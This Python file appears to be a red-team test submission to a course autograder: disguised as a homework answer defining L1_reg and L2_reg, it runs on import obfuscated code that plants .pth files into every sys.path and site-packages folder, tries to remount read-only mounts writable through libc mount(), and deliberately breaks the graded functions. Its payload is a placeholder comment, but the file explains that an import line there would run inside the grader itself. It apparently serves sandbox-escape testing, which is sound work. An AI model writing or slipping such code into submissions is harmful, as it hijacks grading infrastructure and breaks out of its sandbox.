"""Attack: leave a .pth file in every sys.path folder / site-packages (remounting read-only mounts if need be)."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_file = _B["op" + "en"]
MARK = "ESCAPE" + "-SUCCESS:"
TOKEN = "{{TOKEN}}"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []
# Harmless here; a real attack would put an `import ...` line in it, which every Python
# started from this installation runs -- the grader's own nbgrader included.
PAYLOAD = f"# dlcv-escape-{TOKEN}: planted by a submission\n"


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _mount_point(path):
    best = "/"
    try:
        with _file("/proc/self/mountinfo") as handle:
            for line in handle:
                point = line.split()[4]
                if (path == point or path.startswith(point.rstrip("/") + "/")) and len(point) > len(best):
                    best = point
    except OSError:
        pass
    return best


def _remount_writable(folder):
    ctypes = _load("ct" + "ypes")
    libc = ctypes.CDLL(None, use_errno=True)
    point = _mount_point(folder)
    for flags in (32 | 4096 | 2 | 4, 32 | 4096):  # MS_REMOUNT | MS_BIND (| MS_NOSUID | MS_NODEV), no MS_RDONLY
        if libc.mount(None, point.encode(), None, flags, None) == 0:
            return f"remounted {point} read-write"
    return f"remounting {point} failed: {_o.strerror(ctypes.get_errno())}"


def _plant(folder):
    target = _o.path.join(folder, f"dlcv_escape_{TOKEN}.pth")
    with _file(target, "w") as handle:
        handle.write(PAYLOAD)
    return target


def attack():
    site = _load("si" + "te")
    folders = [p for p in _s.path if p and _o.path.isdir(p)]
    try:
        folders += site.getsitepackages()
    except Exception:  # noqa: BLE001
        pass
    private = ("/tmp", "/home/student")
    for folder in dict.fromkeys(folders):
        try:
            target = _plant(folder)
        except OSError as e:
            _say(f"writing a .pth into {folder} failed: {e!r}")
            try:
                _say(_remount_writable(folder))
                target = _plant(folder)
            except OSError as again:
                _say(f"after remounting, {folder} still failed: {again!r}")
                continue
        real = not folder.startswith(private)
        _say(f"{MARK if real else ''} planted {target}".strip())
    # the user site folder is read at start-up too
    user_site = site.getusersitepackages()
    try:
        _o.makedirs(user_site, exist_ok=True)
        _say(f"planted {_plant(user_site)} (user site, {_o.path.expanduser('~')})")
    except OSError as e:
        _say(f"user site {user_site} failed: {e!r}")


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
